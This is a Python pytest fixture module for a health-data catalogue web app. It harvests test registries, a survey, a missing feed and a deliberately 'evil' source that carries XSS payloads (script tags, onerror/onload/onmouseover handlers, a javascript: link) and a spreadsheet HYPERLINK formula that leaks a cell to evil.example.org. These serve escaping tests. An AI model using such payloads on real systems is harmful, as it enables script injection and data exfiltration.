"""A small but varied catalogue for the web tests, harvested for real from feeds on loopback.

Sources: the Medical Birth Registry (tests.factories), a patient registry with ICD-10 and ATC code
lists, a survey with enough variables to page through, a source whose text is hostile (scripts,
event handlers, javascript: links), and a source whose feed is missing (a failed run).
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from flask import Flask

from catalog.config import Settings, SourceConfig
from catalog.duties import import_register
from catalog.model import Agent, CodeList, Concept, Dataset, Variable, key_for
from catalog.pipeline import harvest
from catalog.rdf import to_graph
from catalog.search import open_backend
from catalog.store import SQLiteStore
from tests.factories import EU, HC, apgar_codes, mfr_dataset
from web import create_app

NPR = "https://data.helsedirektoratet.no/npr"
SURVEY = "https://data.example.org/hunt"
EVIL = "https://evil.example.org"
XSS = {
    "title": '<script>window.__xss = "title"; alert(1)</script>Skjema for kroppsmål',
    "description": "<img src=x onerror=\"window.__xss = 'description'\">Vekt ved fødsel",
    "name": '"><svg onload="window.__xss=\'name\'">',
    "landing": "javascript:window.__xss='link'",
}

FORMULA = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Klikk")'


MFR_HEALTHDCAT: dict[str, object] = {
    "has_personal_data": [
        f"https://w3id.org/dpv/dpv-pd#{term}" for term in ("Age", "Gender", "HealthRecord", "Tattoo")
    ],
    "generated_by": ["https://hdeu-dcat.data.health.europa.eu/resource/authority/health-activity/HEALTH_REGISTRIES"],
    "conforms_to": ["https://hdeu-dcat.data.health.europa.eu/resource/authority/standard/FHIR"],
}
"""MFR's HealthDCAT-AP statements as codes of vocabularies (the last personal data term one we hold no label for)."""


def npr_records() -> list:
    icd = CodeList(
        uri=f"{NPR}/kodeverk/icd10",
        identifier="icd-10",
        title={"nb": "ICD-10", "en": "ICD-10"},
        concepts=[
            Concept(code="C50", label={"nb": "Ondartet svulst i brystkjertel"}),
            Concept(code="E11", label={"nb": "Diabetes mellitus type 2"}, valid_from="1999-01-01"),
            Concept(code="U07.1", label={"nb": "Covid-19, virus påvist"}, valid_from="2020-03-01"),
        ],
    )
    atc = CodeList(
        uri=f"{NPR}/kodeverk/atc",
        identifier="atc",
        title={"nb": "ATC-klassifikasjonen"},
        concepts=[
            Concept(code="A10BA02", label={"nb": "Metformin"}),
            Concept(code="N02BE01", label={"nb": "Paracetamol"}),
        ],
    )
    d = Dataset(
        uri=f"{NPR}/dataset/episoder",
        identifier="npr-episoder",
        title={"nb": "Norsk pasientregister – episoder", "en": "Norwegian Patient Registry – episodes"},
        description={"nb": "Episoder i spesialisthelsetjenesten fra 2008.", "en": "Specialist care episodes."},
        publisher=Agent(name={"nb": "Helsedirektoratet"}, uri=f"{NPR}/org"),
        hdab=Agent(name={"nb": "Helsedataservice"}, uri="https://helsedata.no/hdab", email="hds@example.org"),
        legal_basis={"nb": "Forskrift om Norsk pasientregister"},
        population_coverage={"nb": "Alle pasienter"},
        number_of_records=80_000_000,
        number_of_unique_individuals=5_000_000,
        health_categories=[HC + "PHDR"],
        access_rights=EU + "access-right/NON_PUBLIC",
        temporal_start="2008-01-01",
        keywords={"nb": ["diagnose"]},
        variables=[
            Variable(
                uri=f"{NPR}/variabel/HOVEDDIAGNOSE",
                name="HOVEDDIAGNOSE",
                title={"nb": "Hoveddiagnose", "nn": "Hovuddiagnose", "en": "Main diagnosis"},
                description={"nb": "Tilstanden som hovedsakelig var årsak til episoden."},
                codelist=icd.uri,
                coding_system="ICD-10",
                valid_from="2008-01-01",
            ),
            Variable(
                uri=f"{NPR}/variabel/LEGEMIDDEL",
                name="LEGEMIDDEL",
                title={"nb": "Legemiddel"},
                description={"nb": "Legemiddel gitt under oppholdet."},
                codelist=atc.uri,
                coding_system="ATC",
            ),
            Variable(
                uri=f"{NPR}/variabel/FODSELSVEKT",
                name="FODSELSVEKT",
                title={"nb": "Fødselsvekt"},
                description={"nb": "Vekt ved fødsel for nyfødte innlagt."},
                datatype="integer",
                unit="gram",
                valid_from="2010-01-01",
                valid_to="2019-12-31",
            ),
        ],
    )
    return [d, icd, atc]


def survey_dataset() -> Dataset:
    return Dataset(
        uri=f"{SURVEY}/dataset/hunt4",
        identifier="hunt4",
        title={"nb": "HUNT4 spørreskjema"},
        description={"nb": "Spørreskjema om levevaner."},
        temporal_start="2017-01-01",
        temporal_end="2019-12-31",
        publisher=Agent(name={"nb": "HUNT forskningssenter"}),
        variables=[
            Variable(
                uri=f"{SURVEY}/variabel/ROYK{i:02d}",
                name=f"ROYK{i:02d}",
                title={"nb": f"Røyking spørsmål {i}"},
                description={"nb": f"Røykevaner, spørsmål nummer {i}."},
                datatype="boolean",
            )
            for i in range(1, 46)
        ],
    )


def evil_dataset() -> Dataset:
    return Dataset(
        uri=f"{EVIL}/dataset/x",
        identifier="evil",
        title={"nb": XSS["title"]},
        description={"nb": XSS["description"]},
        landing_page=XSS["landing"],
        publisher=Agent(name={"nb": XSS["title"]}, url=XSS["landing"]),
        variables=[
            Variable(
                uri=f"{EVIL}/variabel/V1",
                name=XSS["name"],
                title={"nb": XSS["title"]},
                description={"nb": XSS["description"]},
                unit=XSS["description"],
            ),
            Variable(uri=f"{EVIL}/variabel/V2", name="FORMULA", title={"nb": FORMULA}),
        ],
    )


SOURCES = {
    "mfr": (
        "central-registry",
        "Medisinsk fødselsregister",
        lambda: [mfr_dataset(**MFR_HEALTHDCAT), replace(apgar_codes(), version="2024", valid_from="2024-01-01")],
    ),
    "npr": ("central-registry", "Norsk pasientregister", npr_records),
    "hunt": ("survey", "HUNT", lambda: [survey_dataset()]),
    "evil": ("catalogue", "<b onmouseover=\"window.__xss='source'\">Evil</b>", lambda: [evil_dataset()]),
}


def build(home: Path, server, hostile: bool = True) -> Settings:
    """Publish every source on the loopback server, harvest them all, return the settings."""
    settings = Settings.load(home)
    for name, (category, title, records) in SOURCES.items():
        if name == "evil" and not hostile:
            continue
        url = server.serve(
            f"/web/{name}.ttl", to_graph(records()).serialize(format="turtle"), Content_Type="text/turtle"
        )
        settings.sources[name] = SourceConfig(name=name, kind="dcat", url=url, category=category, title=title)
    settings.sources["gone"] = SourceConfig(
        name="gone", kind="dcat", url=server.url + "/web/missing.ttl", title="Nedlagt register"
    )
    store = SQLiteStore(settings.db_path)
    index = open_backend(settings)
    harvest(settings, store, index)
    import_register(settings, store, index, register(hostile), "web register")
    store.close()
    index.close()
    return settings


def register(hostile: bool) -> bytes:
    """The data use register: two permits over MFR and NPR (and, hostile, one over the evil dataset)."""
    rows = [
        "permit_id,project_title,organisation,datasets,permit_date,application_date,legal_basis,summary",
        f"HDS-2025-001,Fødselsvekt og senere sykehusopphold,Universitetet i Bergen,{mfr_dataset().uri} "
        f"{NPR}/dataset/episoder,2025-03-14,2024-11-20,EHDS art. 53(1)(e),Kohortstudie av fødte 1967-2020.",
        f"HDS-2025-002,Diabetes etter svangerskapsdiabetes,Folkehelseinstituttet,{mfr_dataset().uri},"
        "2025-09-01,2025-07-15,EHDS art. 53(1)(e),Oppfølging av mødre.",
    ]
    if hostile:
        title, summary = (XSS["title"].replace('"', '""'), XSS["description"].replace('"', '""'))
        rows.append(f'HDS-2025-666,"{title}",Evil,{EVIL}/dataset/x,2025-10-01,,Lov,"{summary}"')
    return ("\n".join(rows) + "\n").encode()


@pytest.fixture(scope="session")
def web_settings(tmp_path_factory, _static_server) -> Settings:
    return build(tmp_path_factory.mktemp("web") / "home", _static_server)


@pytest.fixture(scope="session")
def web_app(web_settings: Settings) -> Flask:
    return create_app(web_settings)


def vkey(uri: str) -> str:
    """The id of a record or variable in page URLs."""
    return key_for(uri)


@pytest.fixture(scope="session")
def nation_settings(tmp_path_factory) -> Settings:
    """The simulated nation as `catalog demo` harvests it (registries, quality registries, surveys
    with their waves, Statistics Norway): the catalogue researchers' tasks are tried on."""
    from catalog.demo import harvest_simulated
    from simulator import Simulator

    settings = Settings.load(tmp_path_factory.mktemp("nation") / "home")
    with Simulator(seed=0) as simulator:
        harvest_simulated(settings, simulator, workers=1)
    return settings
